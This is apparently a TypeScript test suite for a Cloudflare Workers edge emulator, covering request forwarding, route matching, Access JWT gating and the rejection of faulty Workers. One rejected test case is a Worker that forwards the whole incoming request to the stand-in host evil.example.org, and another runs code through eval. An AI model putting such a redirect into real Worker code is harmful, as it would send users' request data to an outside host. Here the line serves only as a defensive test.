// Proves how the edge runs a Worker: it runs after Access and only for its route, and the edge changes nothing else in
// the request and the answer.
import assert from "node:assert/strict";
import { routeOf } from "../../../cloudflare/workers/patterns";
import { HOST, shows, World } from "./kit";

const asIs = "export default { fetch: (request) => fetch(request) };";

describe("a Worker at the edge emulator", () => {
    let world: World;
    before(async () => {
        world = await World.start();
        await world.connect();
    });
    after(() => world.close());
    beforeEach(() => {
        world.seen.length = 0;
        world.lines.length = 0;
    });

    const deploy = (content: string, pattern?: string) => world.worker(content, pattern);
    const post = (path = "/a?b=c", body: string | Buffer = "x=1") =>
        world.send({ method: "POST", path, body, headers: { "X-Any": ["1", "2"], "Content-Type": "text/plain" } });

    it("forwards a request unchanged, and adds the zone's name for the origin", async () => {
        deploy(asIs);
        world.respond = (_, answer) => answer.writeHead(201, { "X-Origin": "yes" }).end("made");
        const { status, headers, body } = await post();
        assert.deepEqual([status, headers["x-origin"], body], [201, "yes", "made"]);
        const [seen] = world.seen;
        assert.deepEqual([seen.method, seen.url, seen.body], ["POST", "/a?b=c", "x=1"]);
        const value = (name: string) => seen.headers.filter(([key]) => key.toLowerCase() === name).map(([, v]) => v);
        assert.deepEqual(value("x-any"), ["1", "2"]);
        assert.deepEqual(value("cf-worker"), [world.zone.name]);
    });

    it("forwards a body that the Worker has written, with its length", async () => {
        deploy(
            "export default { fetch: async (request) => fetch(new Request(request, { body: `${await request.text()}&y=ä` })) };",
        );
        world.respond = (_, answer) => answer.end("ok");
        assert.equal((await post()).status, 200);
        const [seen] = world.seen;
        assert.equal(Buffer.from(seen.body).toString(), "x=1&y=ä");
        assert.deepEqual(
            seen.headers.filter(([name]) => name.toLowerCase() === "content-length").map(([, v]) => v),
            ["8"],
        );
    });

    it("answers by itself, without a request to the origin", async () => {
        deploy(
            'export default { fetch: () => new Response("mine", { status: 203, headers: { "X-Worker": "yes" } }) };',
        );
        const { status, headers, body } = await world.send({ path: "/any" });
        assert.deepEqual([status, headers["x-worker"], body], [203, "yes", "mine"]);
        assert.deepEqual(world.seen, []);
    });

    it("runs a Worker only for its route", async () => {
        deploy('export default { fetch: () => new Response("mine") };', `${HOST}/alpa/*`);
        world.respond = (_, answer) => answer.end("origin");
        assert.equal((await world.send({ path: "/alpa/x" })).body, "mine");
        assert.equal((await world.send({ path: "/other" })).body, "origin");
    });

    const failing: [what: string, content: string, status: number, body: RegExp][] = [
        ["an exception", 'export default { fetch() { throw new Error("no"); } };', 500, /error code: 1101/],
        ["no answer at all", "export default { fetch() {} };", 500, /error code: 1101/],
        [
            "a body that is read twice",
            "export default { fetch: async (r) => (await r.text(), fetch(r)) };",
            500,
            /1101/,
        ],
        ["a write to the log", "export default { fetch: (r) => (console.log(r), fetch(r)) };", 500, /1101/],
        [
            "another address",
            'export default { fetch: (r) => fetch(new Request("https://evil.example.org/", r)) };',
            501,
            /changes the address/,
        ],
        [
            "a read of the origin's answer",
            "export default { fetch: async (r) => (await fetch(r)).clone() };",
            500,
            /1101/,
        ],
        ["code from a text", 'export default { fetch: (r) => eval("fetch(r)") };', 500, /1101/],
    ];
    for (const [what, content, status, body] of failing)
        it(`rejects ${what}`, async () => {
            deploy(content);
            const answer = await post();
            assert.equal(answer.status, status, answer.body);
            assert.match(answer.body, body);
            assert.deepEqual(world.seen, []);
        });

    it("runs a Worker only for requests that Access admits, with their JWT", async () => {
        deploy(
            'export default { fetch: (r) => new Response(String(r.headers.get("Cf-Access-Jwt-Assertion")).slice(0, 2)) };',
        );
        const token = world.token();
        world.application([world.policy("non_identity", [{ service_token: { token_id: token.id } }])]);
        assert.equal((await world.send({ headers: shows(token) })).body, "ey");
        assert.ok([401, 403].includes((await world.send({})).status));
    });
});

describe("routes of Workers", () => {
    const route = (pattern: string) => ({ id: pattern, zone_id: "z", pattern, script: "one" });
    const all = ["a.example.com/*", "a.example.com/alpa/*", "a.example.com/alpa/x", "a.example.com"].map(route);
    const cases: [host: string, target: string, pattern: string | undefined][] = [
        ["a.example.com", "/any", "a.example.com/*"],
        ["a.example.com", "/alpa/y", "a.example.com/alpa/*"],
        ["a.example.com", "/alpa/x", "a.example.com/alpa/x"],
        ["a.example.com", "/alpa/x?q=1", "a.example.com/alpa/*"],
        ["a.example.com", "/Alpa/x", "a.example.com/*"],
        ["a.example.com", "/", "a.example.com"],
        ["b.example.com", "/", undefined],
    ];
    for (const [host, target, pattern] of cases)
        it(`select ${pattern ?? "none"} for ${host}${target}`, () =>
            assert.equal(routeOf(all, host, target)?.pattern, pattern));
});
